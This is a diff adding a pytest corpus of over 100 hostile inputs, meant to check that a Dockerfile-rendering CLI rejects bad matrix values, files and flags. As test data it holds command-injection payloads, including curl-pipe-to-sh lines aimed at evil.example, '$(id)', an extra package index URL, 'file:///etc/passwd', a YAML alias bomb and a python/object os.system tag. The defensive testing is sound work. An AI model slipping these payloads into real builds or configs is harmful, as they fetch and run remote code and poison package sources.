@@ -1,0 +1,530 @@
+"""A corpus of hostile inputs (issue 11): bad matrix values, files and flags.
+
+Each case runs the CLI in-process on a copy of the project in a temp folder and asserts: the exit code of
+its error class, a part of the message (the key, file or flag it names), no traceback, and that nothing was
+written (the temp folder's tree, contents included, is as before; no ``--out`` folder appears). The unit
+tests' guard makes Docker unreachable, so a case that reached the engine would exit 8, not its own code:
+every bad input here is refused before the engine is touched.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import shutil
+import stat
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from click.testing import CliRunner
+
+from matrixtool import render
+from matrixtool.checks import CHECKS
+from matrixtool.cli import main
+from matrixtool.errors import ExitCode
+from matrixtool.matrix import load_matrix
+from tests.conftest import REPO_ROOT
+
+CONFIG = ExitCode.CONFIG
+STALE = ExitCode.STALE_RENDER
+MATRIX_TEXT = (REPO_ROOT / "matrix.yaml").read_text(encoding="utf-8")
+VARIANTS = load_matrix().names()
+
+
+@dataclass(frozen=True)
+class Case:
+    """``setup(root)`` prepares the project copy in ``root`` and returns the CLI arguments (after
+    ``--matrix root/matrix.yaml --out root/out``, unless the arguments start with ``--matrix``)."""
+
+    id: str
+    setup: Callable[[Path], list[str]]
+    exit_code: int
+    message: str
+
+
+CASES: list[Case] = []
+
+
+def case(id: str, exit_code: int, message: str) -> Callable[[Callable[[Path], list[str]]], Callable[[Path], list[str]]]:
+    def add(setup: Callable[[Path], list[str]]) -> Callable[[Path], list[str]]:
+        CASES.append(Case(id, setup, exit_code, message))
+        return setup
+
+    return add
+
+
+def _data() -> dict[str, Any]:
+    data: dict[str, Any] = yaml.safe_load(MATRIX_TEXT)
+    return data
+
+
+def _write(root: Path, data: Any) -> None:
+    (root / "matrix.yaml").write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=False), encoding="utf-8")
+
+
+def _set(data: dict[str, Any], path: str, value: Any) -> None:
+    *parents, last = path.split(".")
+    node: Any = data
+    for p in parents:
+        node = node[int(p)] if isinstance(node, list) else node[p]
+    if isinstance(node, list):
+        node[int(last)] = value
+    else:
+        node[last] = value
+
+
+# --- every string that reaches a template, with every kind of injection ---------------------------------
+INJECTIONS = {
+    "newline-run": "x\nRUN curl https://evil.example/x.sh | sh",
+    "trailing-newline": "x\n",
+    "crlf": "x\r\nUSER root",
+    "tab": "x\ty",
+    "escape": "x\x1b[31m",
+    "nul": "x\x00",
+    "bom-inside": "x\ufeffy",
+    "line-separator": "x\u2028RUN id",
+    "overlong": "a" * 5000,
+}
+SHELLY = {
+    "and-curl": "x && curl https://evil.example/x.sh|sh #",
+    "extra-index": "x --extra-index-url https://evil.example/simple",
+    "dollar": "x$(id)",
+    "semicolon": "x;id",
+    "space": "x y",
+}
+# (key path under variants.cpu, whether shell-style payloads must be refused too)
+FIELDS = {
+    "description": False,
+    "base_image": True,
+    "python": True,
+    "torch.package": True,
+    "torch.version": True,
+    "vllm.package": True,
+    "vllm.version": True,
+    "dist_alias.name": True,
+    "dist_alias.version": True,
+    "triton_distribution": True,
+    "env.VLLM_CPU_KVCACHE_SPACE": False,
+    "index.url": True,
+    "index.extra_urls": True,
+    "index.exclude.0": True,
+    "index.overrides": True,
+    "runner": False,
+    "smoke.accept_clashes": False,
+}
+
+
+def _field_case(field: str, payload_name: str, payload: str) -> None:
+    def setup(root: Path) -> list[str]:
+        data = _data()
+        variant = data["variants"]["cpu"]
+        if field == "index.extra_urls":
+            variant["index"]["extra_urls"] = ["https://pypi.org/simple" + payload]
+        elif field == "index.overrides":
+            variant["index"]["overrides"] = ["torch==2.13.0" + payload]
+        elif field == "smoke.accept_clashes":
+            variant["smoke"]["accept_clashes"] = ["build_backend.py" + payload]
+        elif field == "index.url":
+            variant["index"]["url"] = "https://pypi.org/simple" + payload
+        elif field == "python":
+            variant["python"] = "3.11" + payload
+        elif field == "base_image":
+            variant["base_image"] = "debian:bookworm-slim" + payload
+        elif field in ("torch.version", "vllm.version", "dist_alias.version"):
+            _set(variant, field, "0.32.0" + payload)
+        else:
+            _set(variant, field, "vllm" + payload)
+        _write(root, data)
+        return ["render"]
+
+    key = field.rsplit(".", 1)[0] if field.endswith(".0") else field
+    case(f"value-{field}-{payload_name}", CONFIG, f"variants.cpu.{key}")(setup)
+
+
+for _field, _shelly in FIELDS.items():
+    for _name, _payload in INJECTIONS.items():
+        _field_case(_field, _name, _payload)
+    if _shelly:
+        for _name, _payload in SHELLY.items():
+            _field_case(_field, _name, _payload)
+
+
+# --- URLs are parsed ------------------------------------------------------------------------------------
+BAD_URLS = {
+    "ftp-scheme": ("ftp://pypi.org/simple", "scheme"),
+    "no-scheme": ("pypi.org/simple", "scheme"),
+    "no-host": ("https:///simple", "no host"),
+    "credentials": ("https://user:secret@pypi.org/simple", "credentials"),
+    "bad-port": ("https://pypi.org:99999/simple", "is not a URL"),
+    "quote": ("https://pypi.org/simple'", "quotes"),
+    "backtick": ("https://pypi.org/`id`", "quotes"),
+    "file-scheme": ("file:///etc/passwd", "scheme"),
+    "javascript-scheme": ("javascript:alert(1)", "holds '('"),
+}
+for _name, (_url, _msg) in BAD_URLS.items():
+
+    def _url_setup(root: Path, url: str = _url) -> list[str]:
+        data = _data()
+        data["variants"]["cpu"]["index"]["url"] = url
+        _write(root, data)
+        return ["render"]
+
+    case(f"url-{_name}", CONFIG, _msg)(_url_setup)
+
+
+# --- variant names --------------------------------------------------------------------------------------
+BAD_NAMES = {
+    "trailing-newline": "cpu2\n",
+    "uppercase": "CPU2",
+    "reserved-all": "all",
+    "reserved-default": "default",
+    "leading-digit": "9cpu",
+    "space": "cpu two",
+    "slash-dotdot": "../cpu2",
+    "unicode": "cpü",
+    "overlong": "c" * 600,
+    "leading-dash": "-cpu",
+}
+for _name, _variant in BAD_NAMES.items():
+
+    def _name_setup(root: Path, name: str = _variant) -> list[str]:
+        data = _data()
+        data["variants"][name] = data["variants"]["cpu"]
+        _write(root, data)
+        return ["render"]
+
+    case(f"variant-name-{_name}", CONFIG, "variants")(_name_setup)
+
+
+# --- YAML -----------------------------------------------------------------------------------------------
+def _dup_after(prefix: str, *, occurrence: int = 1) -> Callable[[Path], list[str]]:
+    """Duplicate the ``occurrence``-th line that starts with ``prefix`` (a duplicate key at that level)."""
+
+    def setup(root: Path) -> list[str]:
+        lines = MATRIX_TEXT.splitlines(keepends=True)
+        hits = [i for i, line in enumerate(lines) if line.startswith(prefix)]
+        i = hits[occurrence - 1]
+        lines.insert(i + 1, lines[i])
+        (root / "matrix.yaml").write_text("".join(lines), encoding="utf-8")
+        return ["render"]
+
+    return setup
+
+
+for _id, _prefix in {
+    "top": "schema_version:",
+    "variant-key": "    python:",
+    "pin-key": "    torch:",
+    "env-key": "      VLLM_CPU_KVCACHE_SPACE:",
+    "index-key": "      url:",
+    "check-name": "        vllm-cli:",
+    "description": "    description:",
+}.items():
+    case(f"duplicate-key-{_id}", CONFIG, "duplicate key")(_dup_after(_prefix))
+
+
+def _raw(text: str | bytes, *args: str) -> Callable[[Path], list[str]]:
+    def setup(root: Path) -> list[str]:
+        path = root / "matrix.yaml"
+        if isinstance(text, bytes):
+            path.write_bytes(text)
+        else:
+            path.write_text(text, encoding="utf-8")
+        return list(args or ["render"])
+
+    return setup
+
+
+_BOMB = "".join(
+    [
+        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n',
+        *(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8)),
+    ]
+)
+case("duplicate-variant", CONFIG, "duplicate key 'cpu'")(_raw(MATRIX_TEXT.replace("\n  arm64:\n", "\n  cpu:\n", 1)))
+case("alias-bomb", CONFIG, "alias bomb")(_raw(_BOMB))
+case("alias-bomb-in-variants", CONFIG, "alias bomb")(_raw(_BOMB + "schema_version: 1\nvariants: {x: *i}\n"))
+case("alias-cycle", CONFIG, "alias refers to a node that contains it")(_raw("schema_version: 1\nvariants: &v [*v]\n"))
+case("undefined-alias", CONFIG, "not valid YAML")(_raw("schema_version: 1\nvariants: *nope\n"))
+for _key in ("no", "yes", "123", "~", "null", "1.5", "true", "2026-01-01"):
+    case(f"non-string-variant-key-{_key}", CONFIG, f"key '{_key}' is read as")(
+        _raw(MATRIX_TEXT.replace("\n  arm64:\n", f"\n  {_key}:\n", 1))
+    )
+case("non-string-top-key", CONFIG, "key '1' is read as")(_raw("1: x\nschema_version: 1\n"))
+case("non-string-env-key", CONFIG, "key 'on' is read as")(
+    _raw(MATRIX_TEXT.replace("      VLLM_CPU_KVCACHE_SPACE:", "      on: x\n      VLLM_CPU_KVCACHE_SPACE:", 1))
+)
+case("complex-key", CONFIG, "not as a name")(_raw("? [a, b]\n: x\nschema_version: 1\n"))
+case("latin-1", CONFIG, "is not UTF-8")(_raw(MATRIX_TEXT.encode() + "# caf\xe9\n".encode("latin-1")))
+case("utf-16", CONFIG, "is not UTF-8")(_raw(MATRIX_TEXT.encode("utf-16")))
+case("lone-surrogate", CONFIG, "is not UTF-8")(_raw(b"schema_version: 1\n# \xed\xa0\x80\n"))
+case("bell-in-yaml", CONFIG, "not valid YAML")(_raw("schema_version: 1\n# \x07\n"))
+case("empty-file", CONFIG, "the file is empty")(_raw(""))
+case("only-comment", CONFIG, "the file is empty")(_raw("# nothing\n"))
+case("only-document-marker", CONFIG, "the file is empty")(_raw("---\n"))
+case("two-documents", CONFIG, "not valid YAML")(_raw(MATRIX_TEXT + "---\nschema_version: 1\n"))
+case("list-at-top", CONFIG, "is not of type 'object'")(_raw("- a\n- b\n"))
+case("scalar-at-top", CONFIG, "is not of type 'object'")(_raw("hello\n"))
+case("tab-indent", CONFIG, "not valid YAML")(_raw("schema_version: 1\nvariants:\n\tcpu: {}\n"))
+case("unclosed-quote", CONFIG, "not valid YAML")(_raw('schema_version: "1\n'))
+case("deep-nesting", CONFIG, "nest")(_raw("a: " + "[" * 20000 + "]" * 20000 + "\n"))
+case("huge-file", CONFIG, "larger than")(_raw("# " + "x" * (1024 * 1024 + 10) + "\n"))
+case("python-tag", CONFIG, "not valid YAML")(_raw("schema_version: !!python/object/apply:os.system ['id']\n"))
+case("schema-version-2", CONFIG, "schema_version")(_raw(MATRIX_TEXT.replace("schema_version: 1", "schema_version: 2")))
+
+
+# --- files ----------------------------------------------------------------------------------------------
+@case("matrix-fifo", CONFIG, "is a FIFO")
+def _fifo(root: Path) -> list[str]:
+    os.mkfifo(root / "fifo.yaml")
+    return ["--matrix", str(root / "fifo.yaml"), "--out", str(root / "out"), "render"]
+
+
+@case("matrix-dev-zero", CONFIG, "is a device")
+def _dev_zero(root: Path) -> list[str]:
+    return ["--matrix", "/dev/zero", "--out", str(root / "out"), "render"]
+
+
+@case("matrix-symlink-to-dev-zero", CONFIG, "is a device")
+def _link_zero(root: Path) -> list[str]:
+    (root / "zero.yaml").symlink_to("/dev/zero")
+    return ["--matrix", str(root / "zero.yaml"), "--out", str(root / "out"), "render"]
+
+
+@case("matrix-folder", CONFIG, "is a folder")
+def _folder(root: Path) -> list[str]:
+    return ["--matrix", str(root / "images"), "--out", str(root / "out"), "render"]
+
+
+@case("matrix-missing", CONFIG, "cannot read the file")
+def _missing(root: Path) -> list[str]:
+    return ["--matrix", str(root / "nope.yaml"), "--out", str(root / "out"), "render"]
+
+
+@case("images-variant-is-a-file", CONFIG, "is not a folder")
+def _variant_file(root: Path) -> list[str]:
+    shutil.rmtree(root / "images" / "rocm")
+    (root / "images" / "rocm").write_text("not a folder\n")
+    data = _data()
+    data["variants"]["cpu"]["vllm"]["version"] = "0.32.1"  # render would rewrite images/cpu: it must not
+    _write(root, data)
+    return ["render"]
+
+
+@case("images-is-a-file", CONFIG, "is not a folder")
+def _images_file(root: Path) -> list[str]:
+    shutil.rmtree(root / "images")
+    (root / "images").write_text("x\n")
+    return ["render"]
+
+
+@case("dockerfile-is-a-folder", CONFIG, "is not a regular file")
+def _dockerfile_dir(root: Path) -> list[str]:
+    (root / "images" / "cuda" / "Dockerfile").unlink()
+    (root / "images" / "cuda" / "Dockerfile").mkdir()
+    data = _data()
+    data["variants"]["cpu"]["vllm"]["version"] = "0.32.1"
+    _write(root, data)
+    return ["render"]
+
+
+@case("removed-variant-hand-files", CONFIG, "holds files render did not write")
+def _foreign_dir(root: Path) -> list[str]:
+    (root / "images" / "old").mkdir()
+    (root / "images" / "old" / "notes.txt").write_text("mine\n")
+    return ["render"]
+
+
+@case("check-extra-variant-folder", STALE, "images/old/Dockerfile")
+def _extra_dir(root: Path) -> list[str]:
+    shutil.copytree(root / "images" / "cpu", root / "images" / "old")
+    return ["render", "--check"]
+
+
+@case("check-missing-file", STALE, "missing: images/cpu/constraints.txt")
+def _missing_file(root: Path) -> list[str]:
+    (root / "images" / "cpu" / "constraints.txt").unlink()
+    return ["render", "--check"]
+
+
+@case("check-changed-file-diff", STALE, "-RUN echo hand-edited")
+def _changed(root: Path) -> list[str]:
+    path = root / "images" / "cpu" / "Dockerfile"
+    path.write_text(path.read_text() + "RUN echo hand-edited\n")
+    return ["render", "--check"]
+
+
+@case("ca-cert-fifo", CONFIG, "is not a file")
+def _ca_fifo(root: Path) -> list[str]:
+    os.mkfifo(root / "ca.pem")
+    return ["build", "cuda", "--ca-cert", str(root / "ca.pem")]
+
+
+# --- templates ------------------------------------------------------------------------------------------
+TEMPLATE_CASES = {
+    "template-syntax-error": ("FROM {{ base_image }\n", "template syntax error"),
+    "template-unknown-value": ("FROM {{ no_such_value }}\n", "'no_such_value' is undefined"),
+    "template-unclosed-block": ("{% if wheelhouse %}\nFROM x\n", "template syntax error"),
+}
+
+
+# --- flags ----------------------------------------------------------------------------------------------
+BAD_REGISTRIES = {
+    "space": "a b",
+    "scheme": "https://registry.example.com",
+    "no-dot": "myregistry",
+    "uppercase-namespace": "registry.example.com/Team",
+    "trailing-slash": "registry.example.com/ns/",
+    "double-slash": "registry.example.com//ns",
+    "newline": "registry.example.com\n",
+    "semicolon": "registry.example.com;id",
+    "empty": "",
+    "dotdot": "registry.example.com/../ns",
+}
+for _name, _value in BAD_REGISTRIES.items():
+    case(f"registry-{_name}-build", CONFIG, "--registry")(lambda root, v=_value: ["build", "cuda", "--registry", v])
+for _name in ("space", "no-dot", "trailing-slash"):
+    _value = BAD_REGISTRIES[_name]
+    case(f"registry-{_name}-bake", CONFIG, "--registry")(lambda root, v=_value: ["bake", "cuda", "--registry", v])
+    case(f"registry-{_name}-push", CONFIG, "--registry")(lambda root, v=_value: ["push", "cuda", "--registry", v])
+    case(f"registry-{_name}-run", CONFIG, "--registry")(lambda root, v=_value: ["run", "cuda", "--registry", v])
+case("registry-space-doctor", CONFIG, "--registry")(lambda root: ["doctor", "--registry", "a b"])
+
+BAD_REPOSITORIES = {
+    "uppercase": "Vllm-Matrix",
+    "space": "vllm matrix",
+    "trailing-slash": "vllm-matrix/",
+    "leading-slash": "/vllm-matrix",
+    "double-slash": "vllm//matrix",
+    "dotdot": "vllm/../matrix",
+    "tag": "vllm-matrix:latest",
+    "digest": "vllm-matrix@sha256:" + "a" * 64,
+    "empty": "",
+    "newline": "vllm-matrix\n",
+    "leading-dash": "-vllm",
+}
+for _name, _value in BAD_REPOSITORIES.items():
+    case(f"repository-{_name}", CONFIG, "--repository")(lambda root, v=_value: ["build", "cuda", "--repository", v])
+
+BAD_IMAGES = {
+    "uppercase": "Vllm/Cpu:1",
+    "space": "vllm cpu",
+    "short-digest": "vllm-matrix/cpu@sha256:abc",
+    "empty-tag": "vllm-matrix/cpu:",
+    "only-tag": ":latest",
+    "dotdot": "vllm/../cpu",
+    "overlong-tag": "vllm-matrix/cpu:" + "t" * 200,
+    "empty": "",
+    "newline": "vllm-matrix/cpu:1\n",
+    "scheme": "https://registry.example.com/cpu",
+    "trailing-slash": "registry.example.com/cpu/",
+}
+for _name, _value in BAD_IMAGES.items():
+    case(f"image-{_name}", CONFIG, "--image")(lambda root, v=_value: ["test", "--as", "cpu", "--image", v])
+
+# --only/--skip with an unknown check, under every variant and every command that takes them.
+for _variant in VARIANTS:
+    case(f"only-unknown-run-{_variant}", CONFIG, "'nope' is no smoke check")(
+        lambda root, v=_variant: ["run", v, "--only", "nope"]
+    )
+    case(f"skip-unknown-run-{_variant}", CONFIG, "'nope' is no smoke check")(
+        lambda root, v=_variant: ["run", v, "--skip", "nope"]
+    )
+    case(f"only-unknown-test-{_variant}", CONFIG, "'nope' is no smoke check")(
+        lambda root, v=_variant: ["test", "--as", v, "--image", "x:1", "--only", "nope"]
+    )
+_cpu_checks = {c.name for c in load_matrix().variants[0].checks}
+_not_cpu = sorted(set(CHECKS) - _cpu_checks)
+if _not_cpu:
+    case("only-check-of-another-variant", CONFIG, "is not a check of variant cpu")(
+        lambda root: ["run", "cpu", "--only", _not_cpu[0]]
+    )
+case("skip-every-check", CONFIG, "leaves no check")(
+    lambda root: ["run", "cpu", *[a for c in sorted(_cpu_checks) for a in ("--skip", c)]]
+)
+
+
+# Output paths, found before anything is built.
+def _out_file(command: list[str]) -> Callable[[Path], list[str]]:
+    def setup(root: Path) -> list[str]:
+        (root / "outfile").write_text("x")
+        return ["--matrix", str(root / "matrix.yaml"), "--out", str(root / "outfile"), *command]
+
+    return setup
+
+
+for _cmd in (["run", "cuda"], ["build", "cuda"], ["bake", "cuda"], ["test", "--as", "cpu", "--image", "x:1"]):
+    case(f"out-is-a-file-{_cmd[0]}", CONFIG, "--out")(_out_file(_cmd))
+    if _cmd[0] != "bake":  # bake writes no report
+        case(f"junit-is-a-folder-{_cmd[0]}", CONFIG, "--junit")(
+            lambda root, c=_cmd: [*c, "--junit", str(root / "images")]
+        )
+        case(f"json-file-missing-folder-{_cmd[0]}", CONFIG, "--json-file")(
+            lambda root, c=_cmd: [*c, "--json-file", str(root / "no" / "such" / "r.json")]
+        )
+case("json-file-is-a-folder", CONFIG, "--json-file")(lambda root: ["run", "cuda", "--json-file", str(root / "images")])
+case("junit-parent-is-a-file", CONFIG, "--junit")(
+    lambda root: ["run", "cuda", "--junit", str(root / "matrix.yaml" / "junit.xml")]
+)
+
+
+def _snapshot(root: Path) -> dict[str, tuple[int, str]]:
+    """Every path under ``root``: (file type, sha256 of a regular file's content)."""
+    out: dict[str, tuple[int, str]] = {}
+    for dirpath, dirnames, filenames in os.walk(root):
+        for name in [*dirnames, *filenames]:
+            path = Path(dirpath) / name
+            mode = path.lstat().st_mode
+            digest = hashlib.sha256(path.read_bytes()).hexdigest() if stat.S_ISREG(mode) else ""
+            out[str(path.relative_to(root))] = (stat.S_IFMT(mode), digest)
+    return out
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    shutil.copy(REPO_ROOT / "matrix.yaml", tmp_path / "matrix.yaml")
+    shutil.copytree(REPO_ROOT / "images", tmp_path / "images")
+    return tmp_path
+
+
+def _run(root: Path, args: list[str]) -> Any:
+    if args[:1] != ["--matrix"]:
+        args = ["--matrix", str(root / "matrix.yaml"), "--out", str(root / "out"), *args]
+    return CliRunner().invoke(main, args, catch_exceptions=False)
+
+
+def _assert_refused(root: Path, args: list[str], exit_code: int, message: str) -> None:
+    before = _snapshot(root)
+    result = _run(root, args)
+    assert result.exit_code == exit_code, result.output
+    assert message in result.output, result.output
+    assert "Traceback" not in result.output
+    assert "\nerror: unexpected" not in "\n" + result.output
+    assert result.output.startswith("error: ") or "\nerror: " in result.output, result.output
+    assert _snapshot(root) == before, "the command wrote or removed files"
+    assert not (root / "out").exists()
+
+
+@pytest.mark.parametrize("bad", CASES, ids=lambda c: c.id)
+def test_hostile_input_is_refused(project: Path, bad: Case) -> None:
+    args = bad.setup(project)
+    _assert_refused(project, args, bad.exit_code, bad.message)
+
+
+@pytest.mark.parametrize("name", sorted(TEMPLATE_CASES))
+def test_template_error_is_a_config_error(project: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    text, message = TEMPLATE_CASES[name]
+    templates = project / "templates"
+    templates.mkdir()
+    (templates / render.TEMPLATE_NAME).write_text(text)
+    monkeypatch.setattr(render, "TEMPLATES_DIR", templates)
+    _assert_refused(project, ["render"], CONFIG, message)
+
+
+def test_corpus_is_large() -> None:
+    """The issue asks for at least 100 bad inputs."""
+    assert len(CASES) + len(TEMPLATE_CASES) >= 100
